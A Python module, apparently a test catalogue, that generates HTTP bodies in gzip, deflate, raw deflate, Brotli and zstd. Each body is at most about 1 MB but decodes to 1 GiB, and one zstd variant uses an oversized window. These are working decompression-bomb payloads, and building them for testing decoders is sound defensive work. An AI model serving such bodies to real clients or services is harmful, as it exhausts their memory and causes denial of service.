"""Small bodies that decode to 1 GiB, made in well under a second: catalogue F1.

A bomb is a page's first bytes and then one letter (zeros would be no text, and left even sooner). gzip and deflate
flush after each MiB, so that one MiB's code can be written down once and repeated; Brotli and zstd are simply written.
The check sums at the very end of the repeated ones are wrong, which nobody learns who does not read 1 GiB.
"""

import zlib
from collections.abc import Callable
from typing import Any

import brotli  # type: ignore[import-untyped]
import zstandard

MIB = 1 << 20
GIB_IN_MIB = 1024
START = b"<!doctype html><p>"
FILL = b"a" * MIB


def _repeated(press: Callable[[bytes], bytes], flush: Callable[[], bytes], end: Callable[[], bytes]) -> bytes:
    """A GiB by way of one MiB, whose code is the same each time from the second on."""
    first = press(START + FILL) + flush()
    again, once_more = press(FILL) + flush(), press(FILL) + flush()
    assert again == once_more
    return first + again * (GIB_IN_MIB - 1) + end()


def _zlib(window: int) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, window)
    return _repeated(packer.compress, lambda: packer.flush(zlib.Z_FULL_FLUSH), packer.flush)


def gzip_bomb() -> bytes:
    """About 1 MB."""
    return _zlib(31)


def deflate_bomb() -> bytes:
    """About 1 MB, in zlib's wrapping as HTTP wants it."""
    return _zlib(15)


def raw_deflate_bomb() -> bytes:
    """About 1 MB, without the wrapping, as some servers send it."""
    return _zlib(-15)


def brotli_bomb() -> bytes:
    """About 1 kB: the largest window, and no flush in between."""
    packer = brotli.Compressor(quality=5, lgwin=24)
    parts = [packer.process(START)] + [packer.process(FILL * 64) for _ in range(GIB_IN_MIB // 64)]
    return b"".join([*parts, packer.finish()])


def zstd_bomb(*, window_log: int | None = None) -> bytes:
    """About 33 kB. A window beyond what browsers take (2**23) makes the decoder set that much aside."""
    size: dict[str, Any] = {} if window_log is None else {"window_log": window_log}
    parameters = zstandard.ZstdCompressionParameters.from_level(1, **size)
    packer = zstandard.ZstdCompressor(compression_params=parameters).compressobj()
    parts = [packer.compress(START)] + [packer.compress(FILL * 16) for _ in range(GIB_IN_MIB // 16)]
    return b"".join([*parts, packer.flush()])


BOMBS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "gzip": ("gzip", gzip_bomb),
    "deflate": ("deflate", deflate_bomb),
    "deflate, raw": ("deflate", raw_deflate_bomb),
    "br": ("br", brotli_bomb),
    "zstd": ("zstd", zstd_bomb),
    "zstd, 128 MB window": ("zstd", lambda: zstd_bomb(window_log=27)),
}
"""By name: the content coding, and how to make it."""
